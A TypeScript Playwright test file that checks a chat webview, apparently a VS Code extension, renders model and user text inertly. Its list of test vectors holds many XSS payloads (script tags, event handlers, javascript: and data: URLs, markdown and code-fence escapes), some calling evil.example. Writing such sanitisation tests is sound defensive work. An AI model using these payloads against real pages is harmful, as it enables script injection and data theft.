// What a model or a workspace writes stays text: no script runs, nothing is fetched, no element or address slips in.

import assert from "node:assert/strict";
import { test } from "node:test";

import type { Page } from "playwright-core";

import { answerMessage, startPages, stateMessage, userMessage } from "./page.ts";

const openPage = await startPages();

const script = "window.hacked=1";
const call = "javascript:window.hacked=1";

/** Each tries to run a script, to fetch from evil.example, or to bring in an element that acts. */
const vectors: readonly string[] = [
  `<script>${script}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<img src=x onerror="${script}">`,
  `<img src="https://evil.example/pixel.png">`,
  `<IMG """><SCRIPT>${script}</SCRIPT>">`,
  `<img src=x:x onerror\n=${script}>`,
  `<svg onload="${script}">`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="${call}"><text y=20>x</text></a></svg>`,
  `<svg><style><img src=x onerror="${script}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${script}">`,
  `<math href="${call}">x</math>`,
  `<iframe src="${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="${call}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<body onload="${script}">`,
  `<details open ontoggle="${script}">x</details>`,
  `<video><source onerror="${script}"></video>`,
  `<audio src=x onerror="${script}"></audio>`,
  `<input autofocus onfocus="${script}">`,
  `<select autofocus onfocus="${script}"></select>`,
  `<textarea autofocus onfocus="${script}"></textarea>`,
  `<form action="https://evil.example/"><button>x</button></form>`,
  `<button formaction="${call}">x</button>`,
  `<isindex type=image src=1 onerror="${script}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>body{background:url(https://evil.example/x.png)}</style>`,
  `<p style="background:url(https://evil.example/y.png)">x</p>`,
  `<div style="position:fixed;inset:0">x</div>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  `<marquee onstart="${script}">x</marquee>`,
  `<a href="${call}" onclick="${script}">x</a>`,
  `<vscode-button onclick="${script}">x</vscode-button>`,
  `<x onclick="${script}" id=acquireVsCodeApi data-vscode-context='{"x":1}'>x</x>`,
  `<!--><img src=x onerror="${script}">-->`,
  `<![CDATA[><img src=x onerror="${script}">]]>`,
  `<?xml-stylesheet href="${call}"?>`,
  `[x](${call})`,
  `[x](JaVaScRiPt:window.hacked=1)`,
  `[x](java&#x0A;script:window.hacked=1)`,
  `[x](&#106;avascript:window.hacked=1)`,
  `[x](<javascript:window.hacked=1>)`,
  `[x](javascript&colon;window.hacked=1)`,
  `[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1))`,
  `[x](command:workbench.action.quit)`,
  `[x](vscode://falcon.falcon/x)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example/x)`,
  `[x](/etc/passwd)`,
  `[x](#hash)`,
  `<${call}>`,
  `![x](https://evil.example/image.png)`,
  `![x](${call})`,
  `![x](x" onerror="${script})`,
  `[![x](https://evil.example/i.png)](${call})`,
  `[x](https://ok.example/" onmouseover="${script})`,
  `[x](https://ok.example 'title" onmouseover="${script}')`,
  `[x]: ${call}\n\n[x]`,
  `# <img src=x onerror="${script}">`,
  `- [ ] <img src=x onerror="${script}">`,
  `| a |\n|---|\n| <img src=x onerror="${script}"> |`,
  `> <iframe src="${call}">`,
  `\`\`\`html\n<img src=x onerror="${script}">\n</code></pre><script>${script}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror="${script}">\ncode\n\`\`\``,
  `\`\`\`js" class="codicon" onclick="${script}\ncode\n\`\`\``,
  "```constructor\ncode\n```",
  "```__proto__\ncode\n```",
  `    </code></pre><img src=x onerror="${script}">`,
  `\`</code><img src=x onerror="${script}">\``,
  `&lt;img src=x onerror=${script}&gt;`,
  `&#60;img src=x onerror=${script}&#62;`,
  `**<b onmouseover="${script}">x**`,
  `https://ok.example/"onmouseover="${script}`,
  `<https://ok.example/"onmouseover="${script}>`,
];

/** Elements that the page itself makes for an answer or a message. */
const allowedElements = new Set(
  (
    "ARTICLE H2 H3 H4 H5 H6 P DIV SPAN UL OL LI BLOCKQUOTE PRE CODE EM STRONG DEL A BR HR TABLE THEAD TBODY TR TH TD " +
    "BUTTON VSCODE-BUTTON"
  ).split(" "),
);
const allowedAttributes = new Set(
  "class dir role title hidden tabindex type start align data-href aria-label aria-hidden aria-expanded appearance current-value aria-disabled".split(
    " ",
  ),
);

test("what a model writes, while it streams and when it is whole", async () => {
  const { page, tell, requests, complaints } = await openPage();
  const answers = vectors.map((_, index) => ({ ...answerMessage("", "streaming"), id: `${index}` }));
  const deltas = vectors.map((text, index) => ({ type: "delta", answerId: `${index}`, text }) as const);
  const ends = vectors.map((_, index) => ({ type: "ended", answerId: `${index}`, state: "done" }) as const);
  await tell(
    stateMessage([userMessage("Hello"), ...answers]),
    ...deltas.map((event) => ({ type: "event", event }) as const),
  );
  await page.waitForSelector(".answer:last-child > .markdown > *");
  assert.deepEqual(await findForeign(page), []);
  await tell(...ends.map((event) => ({ type: "event", event }) as const));
  await page.waitForSelector(".answer:last-child:not(.streaming)");
  assert.deepEqual(await findForeign(page), []);
  assert.notEqual(await page.locator("a").count(), 0, "links are let through at all");
  await clickEverything(page);
  assert.equal(await page.evaluate(() => "hacked" in window), false);
  assert.deepEqual(requests.filter(isForeign), []);
  assert.deepEqual(complaints, []);
});

test("what the user and the workspace write", async () => {
  const { page, tell, requests, complaints } = await openPage();
  const attach = (text: string, index: number) => ({ id: `${index}`, label: text, uri: text, languageId: text, text });
  const messages = vectors.map((vector, index) => ({
    ...userMessage(vector, [attach(vector, index)]),
    command: "explain" as const,
  }));
  const problem = { message: vectors.join("\n") };
  const status = { state: "failed", model: vectors.join(" "), problem } as const;
  await tell(stateMessage([...messages, answerMessage("", "failed", problem)], status, vectors.map(attach)));
  assert.equal(await page.locator(".user").count(), vectors.length);
  assert.deepEqual(await findForeign(page), []);
  await clickEverything(page);
  assert.equal(await page.evaluate(() => "hacked" in window), false);
  assert.deepEqual(requests.filter(isForeign), []);
  assert.deepEqual(complaints, []);
});

test("an image is a link to it", async () => {
  const { page, tell } = await openPage();
  await tell(stateMessage([userMessage("Hello"), answerMessage("![A bird](https://ok.example/bird.png)")]));
  assert.equal(await page.locator("a").textContent(), "A bird");
  assert.equal(await page.locator("a").getAttribute("data-href"), "https://ok.example/bird.png");
});

test("links ask the host, by mouse and by keyboard", async () => {
  const { page, tell, said } = await openPage();
  const text = "[a](https://a.example/x?y=1) <https://b.example/> me@c.example";
  await tell(stateMessage([userMessage("Hello"), answerMessage(text)]));
  await page.getByRole("link", { name: "a", exact: true }).click();
  await page.getByRole("link", { name: "https://b.example/" }).press("Enter");
  await page.getByRole("link", { name: "me@c.example" }).click();
  assert.deepEqual(await said(), [
    { type: "openLink", href: "https://a.example/x?y=1" },
    { type: "openLink", href: "https://b.example/" },
    { type: "openLink", href: "mailto:me@c.example" },
  ]);
  assert.equal(page.url().endsWith("/"), true);
});

/** Whether a request is for anything but the page's own files. */
function isForeign(request: string): boolean {
  return !/^\/(webview\.(js|css)|codicon\.ttf.*)?$/.test(request);
}

/** Elements, attributes and addresses in the conversation that are not the page's own. */
async function findForeign(page: Page): Promise<string[]> {
  return page.evaluate(
    ([elements, attributes]) => {
      const foreign: string[] = [];
      for (const node of document.querySelectorAll(".messages *")) {
        if (!elements.includes(node.tagName)) foreign.push(`<${node.tagName}>`);
        for (const { name, value } of node.attributes) {
          const address = name === "data-href" && !/^(https?:\/\/|mailto:)/i.test(value);
          if (!attributes.includes(name) || address) foreign.push(`${name}=${value}`);
        }
      }
      return foreign;
    },
    [[...allowedElements], [...allowedAttributes]] as const,
  );
}

async function clickEverything(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const node of document.querySelectorAll<HTMLElement>(".messages *")) {
      (node as Partial<HTMLElement>).click?.();
      node.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
      node.dispatchEvent(new FocusEvent("focus"));
    }
  });
}
